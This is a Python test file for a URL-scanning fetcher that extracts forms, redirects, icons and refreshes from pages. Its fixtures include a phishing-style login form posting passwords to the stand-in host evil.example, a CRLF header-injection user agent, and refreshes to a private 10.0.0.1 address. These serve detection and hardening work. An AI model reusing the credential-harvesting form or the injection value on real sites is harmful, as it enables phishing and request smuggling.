"""The evidence contains every field of what the fetcher found."""

import base64
import hashlib
import os
import signal
import subprocess
import threading
from itertools import pairwise

import mmh3

from safeurl.model.report import EvidenceLine, FormField, Iframe, MetaRefresh, ReportLine
from safeurl.model.report_reader import ReportReader
from safeurl.state import Outcome
from tests.support.fetching import COMMAND, ROOT, fetch, request_line
from tests.support.pages import PageServer, Reply, Request, html, redirect
from tests.support.routes import STANDARD_ROUTES

_ICON = b"\x00\x00\x01\x00" + bytes(range(200))

_RICH_PAGE = """<!doctype html>
<!-- saved from url=(0024)https://www.example.com/ -->
<html lang="de-AT"><head><title> Sign
 in &amp; win </title><base href="/deep/">
<meta name="Description" content="A  lure"><meta name="generator" content="HTTrack">
<link rel="canonical" href="https://brand.example/"><link rel="shortcut icon" href="i.ico">
<script src="a.js"></script><script>alert(1)</script><style>p{}</style></head><body>
<p>Hello</p><noscript>No script</noscript><p hidden>there</p>
<a href="x">One <b>two</b></a><a href="#">n</a><a href="javascript:void(0)">n</a><a name="q">t</a>
<form action="//evil.example/take.php" method="POST"><input name="user" placeholder="You">
<input type="PASSWORD" name="pw"><select name="s"></select><textarea name="t"></textarea></form>
<table><form action=""><tr><td><input type=hidden name=inside></td></tr></form></table>
<input name="owned" form="late"><input type="password" name="stray">
<iframe src="/f1"></iframe><iframe src="/f2" style="display: none"></iframe>
<iframe width=0 height=0></iframe></body></html>"""


def test_a_page_is_read_field_by_field() -> None:
    """Title, metas, forms, links, scripts, frames, language, text and the page saver's mark."""
    with PageServer({"/dir/page": lambda _: html(_RICH_PAGE)}) as server:
        page = fetch(server.url("/dir/page")).page
        base = server.url("/deep/")
    assert page.title == "Sign in & win"
    assert (page.description, page.generator, page.language) == ("A lure", "HTTrack", "de-AT")
    assert page.canonical == "https://brand.example/"
    assert page.text == "Hello there One two n n t"
    assert page.saver_mark == "saved from url=(0024)https://www.example.com/"
    assert (page.links_total, page.links_null) == (3, 2)
    assert [(link.url, link.text) for link in page.links] == [(f"{base}x", "One two")]
    assert [(s.url, s.inline_bytes) for s in page.scripts] == [(f"{base}a.js", 0), ("", 8)]
    assert page.iframes == (
        Iframe(url=server.url("/f1")),
        Iframe(url=server.url("/f2"), hidden=True),
        Iframe(hidden=True),
    )
    assert page.meta_refresh is None
    assert page.partial == ""


def test_forms_are_read_with_their_fields() -> None:
    """Origin, method and password; inputs outside a form in a table; inputs without a form."""
    with PageServer({"/": lambda _: html(_RICH_PAGE)}) as server:
        login, table, stray = fetch(server.url("/")).page.forms
    assert (login.action, login.method) == ("http://evil.example/take.php", "post")
    assert login.has_password
    assert login.cross_origin
    assert login.fields == (
        FormField(name="user", type="text", placeholder="You"),
        FormField(name="pw", type="password"),
        FormField(name="s", type="select"),
        FormField(name="t", type="textarea"),
    )
    assert (table.action, table.method, table.cross_origin) == ("", "get", False)
    assert [each.name for each in table.fields] == ["inside"]
    assert [each.name for each in stray.fields] == ["stray", "owned"]
    assert stray.has_password


def test_hops_record_the_chain() -> None:
    """Each hop has its URL, status, headers, addresses, location and timings."""
    with PageServer(STANDARD_ROUTES) as server:
        run = fetch(server.url("/redirect?n=2"))
    assert [(hop.via, hop.status) for hop in run.hops] == [
        ("submitted", 302),
        ("redirect", 302),
        ("redirect", 200),
    ]
    first = run.hops[0]
    assert (first.location, first.http_version) == ("/redirect?n=1", "HTTP/1.1")
    assert (first.addresses, first.address, first.port) == (
        ("127.0.0.1",),
        "127.0.0.1",
        server.port,
    )
    assert ("Location", "/redirect?n=1") in first.headers
    assert first.tls is None
    times = first.timings
    assert None not in (times.dns_ms, times.connect_ms, times.first_byte_ms, times.total_ms)
    assert times.tls_ms is None
    assert [hop.url for hop in run.hops][-1] == run.report.final_url == server.url("/")


def test_each_redirect_status_is_followed() -> None:
    """301, 302, 303, 307 and 308 redirect; 300, 304 and a 302 without a target do not."""
    statuses = (301, 302, 303, 307, 308)
    routes = {f"/{n}": (lambda r: redirect("/end", int(r.path[1:]))) for n in (*statuses, 300, 304)}
    with PageServer({**routes, "/none": lambda _: Reply(status=302)}) as server:
        for status in statuses:
            assert len(fetch(server.url(f"/{status}")).hops) == 2
        for path in ("/300", "/304", "/none"):
            run = fetch(server.url(path))
            assert (len(run.hops), run.report.outcome) == (1, Outcome.OK)


def test_the_body_is_described_and_kept() -> None:
    """Hash, sizes, types and character set are reported; the artefact has the same bytes."""
    data = "<title>\u041f\u0440\u0438\u0432\u0435\u0442</title>".encode("cp1251")
    reply = Reply(data, content_type="Text/HTML; charset=windows-1251")
    with PageServer({"/": lambda _: reply}) as server:
        run = fetch(server.url("/"))
    assert run.artefact("body") == data
    assert run.body.sha256 == hashlib.sha256(data).hexdigest()
    assert (run.body.declared_type, run.body.sniffed_type) == ("text/html", "text/html")
    assert run.body.charset == "windows-1251"
    assert run.page.title == "\u041f\u0440\u0438\u0432\u0435\u0442"


def test_other_types_are_not_read_as_pages() -> None:
    """A program sent as text is described by its bytes and is not parsed as a page."""
    reply = Reply(b"MZ\x90\x00" + bytes(100), content_type="text/plain")
    with PageServer({"/": lambda _: reply}) as server:
        run = fetch(server.url("/"))
    assert run.body.sniffed_type == "application/x-msdownload"
    assert all(line.page is None for line in run.evidence)


def test_a_large_artefact_comes_in_ordered_pieces() -> None:
    """Pieces of 256 KiB with a mark on the last one; evidence comes before, the report after."""
    data = bytes(range(256)) * 4096
    with PageServer({"/": lambda _: Reply(data, content_type="text/plain")}) as server:
        run = fetch(server.url("/"))
    assert run.artefact("body") == data
    kinds = [type(line) for line in run.lines]
    assert kinds[:2] == [EvidenceLine, EvidenceLine]
    assert kinds[-1] is ReportLine
    assert len(run.lines) == 2 + 4 + 1


def test_the_declared_icon_is_hashed() -> None:
    """SHA-256, and MurmurHash3 of the base64 text as search engines for hosts compute it."""
    page = "<link rel=icon href=/brand.ico>"
    with PageServer({"/": lambda _: html(page), "/brand.ico": lambda _: Reply(_ICON)}) as server:
        run = fetch(server.url("/"))
        url = server.url("/brand.ico")
    icon = run.page.favicon
    assert icon is not None
    assert (icon.url, icon.size_bytes, icon.error) == (url, len(_ICON), "")
    assert icon.sha256 == hashlib.sha256(_ICON).hexdigest()
    assert icon.mmh3 == mmh3.hash(base64.encodebytes(_ICON))
    assert run.artefact("favicon") == _ICON
    assert len(run.hops) == 1


def test_the_default_icon_is_tried_and_a_data_icon_is_hashed_directly() -> None:
    """`/favicon.ico` is the default; a `data:` URL needs no request."""
    data_url = f"data:image/x-icon;base64,{base64.b64encode(_ICON).decode()}"
    routes = {
        "/": lambda _: html("plain"),
        "/favicon.ico": lambda _: Reply(_ICON),
        "/inline": lambda _: html(f'<link rel="icon" href="{data_url}">'),
    }
    with PageServer(dict(routes)) as server:
        default = fetch(server.url("/")).page.favicon
        asked = len(server.requests)
        inline = fetch(server.url("/inline")).page.favicon
        assert len(server.requests) == asked + 1
    assert default is not None
    assert inline is not None
    assert default.mmh3 == inline.mmh3 == mmh3.hash(base64.encodebytes(_ICON))


def test_the_page_is_written_before_the_icon_is_fetched() -> None:
    """All evidence of the page is written before its icon is requested."""
    asked, leave = threading.Event(), threading.Event()

    def icon(_: Request) -> Reply:
        asked.set()
        leave.wait(60)
        return Reply(_ICON)

    with PageServer({"/": lambda _: html("<title>A</title>"), "/favicon.ico": icon}) as server:
        pipe = subprocess.PIPE
        with subprocess.Popen(
            COMMAND, cwd=ROOT, stdin=pipe, stdout=pipe, start_new_session=True
        ) as fetcher:
            assert fetcher.stdin is not None
            assert fetcher.stdout is not None
            fetcher.stdin.write(request_line(server.url("/")))
            fetcher.stdin.close()
            assert asked.wait(60)
            # The watchdog and the process that fetches.
            os.killpg(fetcher.pid, signal.SIGKILL)
            lines = fetcher.stdout.read()
        leave.set()
    reader = ReportReader("scan-1", 1)
    reader.feed(lines)
    page = reader.evidence().page
    assert page is not None
    assert (page.title, page.favicon, reader.report) == ("A", None, None)
    assert [kind for kind, _, _ in reader.artefacts] == ["body"]


def test_a_failed_icon_is_only_an_error_of_the_icon() -> None:
    """An endless, slow, refused or missing icon does not change the result of the page."""
    routes = {
        "/endless": lambda _: html("<link rel=icon href=/big?mib=9><title>A</title>"),
        "/sleeping": lambda _: html("<link rel=icon href=/slow?s=60><title>A</title>"),
        "/private": lambda _: html("<link rel=icon href=http://10.0.0.1/i><title>A</title>"),
        "/missing": lambda _: html("<title>A</title>"),
    }
    with PageServer({**STANDARD_ROUTES, **routes}) as server:
        for path in routes:
            run = fetch(server.url(path))
            assert run.report.outcome is Outcome.OK
            assert run.page.title == "A"
            assert run.page.favicon is not None
            assert run.page.favicon.error
            assert run.page.favicon.mmh3 is None


def test_cookies_survive_redirects() -> None:
    """A page that sets a cookie and redirects to itself is passed."""

    def gate(request: Request) -> Reply:
        if request.headers.get("cookie") == "seen=1":
            return html("<title>Inside</title>")
        return Reply(status=302, headers=(("Set-Cookie", "seen=1; Path=/"), ("Location", "/")))

    with PageServer({"/": gate}) as server:
        assert fetch(server.url("/")).page.title == "Inside"


def test_the_request_looks_like_a_browsers() -> None:
    """Headers that cloaking pages check are a browser's; a setting replaces the user agent."""
    with PageServer({"/a": lambda _: Reply(b"x", content_type="text/plain")}) as server:
        fetch(server.url("/a?b=c#frag"))
        fetch(server.url("/a"), user_agent="Scanner/1\r\nX-Evil: 1")
        first, second = server.requests
        host = f"127.0.0.1:{server.port}"
    assert (first.method, first.target, first.headers["host"]) == ("GET", "/a?b=c", host)
    assert "Chrome/" in first.headers["user-agent"]
    assert first.headers["accept-encoding"] == "gzip, deflate, br, zstd"
    assert {"accept", "accept-language", "sec-fetch-mode"} <= first.headers.keys()
    assert second.headers["user-agent"] == "Scanner/1  X-Evil: 1"


def test_a_meta_refresh_is_followed() -> None:
    """A short refresh is a hop of the chain, and its target is the page."""
    routes = {
        "/": lambda _: html('<title>Wait</title><meta http-equiv=refresh content="1;url=/end">'),
        "/end": lambda _: html("<title>End</title>"),
        "/header": lambda _: html("<title>Wait</title>", headers=(("Refresh", "0; url=/end"),)),
    }
    with PageServer(dict(routes)) as server:
        for path in ("/", "/header"):
            run = fetch(server.url(path))
            assert [hop.via for hop in run.hops] == ["submitted", "meta_refresh"]
            assert run.page.title == "End"
            assert run.report.final_url == server.url("/end")


def test_some_refreshes_are_recorded_but_not_followed() -> None:
    """Slow refreshes and those of pages with text inputs are only recorded."""
    late = '<meta http-equiv="Refresh" content="30; URL=\'/end\'">'
    asking = '<meta http-equiv=refresh content="3;/end"><form><input type=password></form>'
    with PageServer({"/late": lambda _: html(late), "/ask": lambda _: html(asking)}) as server:
        run = fetch(server.url("/late"))
        assert run.page.meta_refresh == MetaRefresh(delay_s=30.0, url=server.url("/end"))
        assert len(run.hops) == 1
        run = fetch(server.url("/ask"))
        assert run.page.meta_refresh == MetaRefresh(delay_s=3.0, url=server.url("/end"))
        assert len(run.hops) == 1


def test_a_refresh_that_fails_leaves_the_page() -> None:
    """The page before the refresh is the result; the private address is evidence."""
    text = '<title>Probe</title><meta http-equiv=refresh content="0;url=http://10.0.0.1/admin">'
    with PageServer({"/": lambda _: html(text)}) as server:
        run = fetch(server.url("/"))
    assert run.report.outcome is Outcome.OK
    assert "refresh was not followed" in run.report.detail
    assert run.page.title == "Probe"
    assert [(refusal.host, refusal.rule) for refusal in run.refusals] == [("10.0.0.1", "private")]


def test_refresh_loops_end() -> None:
    """Five refreshes are followed at most; a refresh to the same page is not followed."""

    def page(request: Request) -> Reply:
        return html(f'<meta http-equiv=refresh content="0;url={request.target}x">')

    same = '<meta http-equiv=refresh content="0;url=/same#top">'
    with PageServer({"/same": lambda _: html(same)}, fallback=page) as server:
        run = fetch(server.url("/"))
        again = fetch(server.url("/same"))
    assert [hop.via for hop in run.hops] == ["submitted", *["meta_refresh"] * 5]
    assert run.report.outcome is Outcome.OK
    assert [hop.via for hop in again.hops] == ["submitted"]


def test_elapsed_times_are_consistent() -> None:
    """The phases of a hop are shorter than its total, and the hops shorter than the fetch."""
    with PageServer(STANDARD_ROUTES) as server:
        run = fetch(server.url("/redirect?n=2"))
    totals = [hop.timings.total_ms or 0 for hop in run.hops]
    assert sum(totals) <= run.report.elapsed_ms
    ends = [0.0, *(sum(totals[: n + 1]) for n in range(len(totals)))]
    assert all(earlier < later for earlier, later in pairwise(ends))
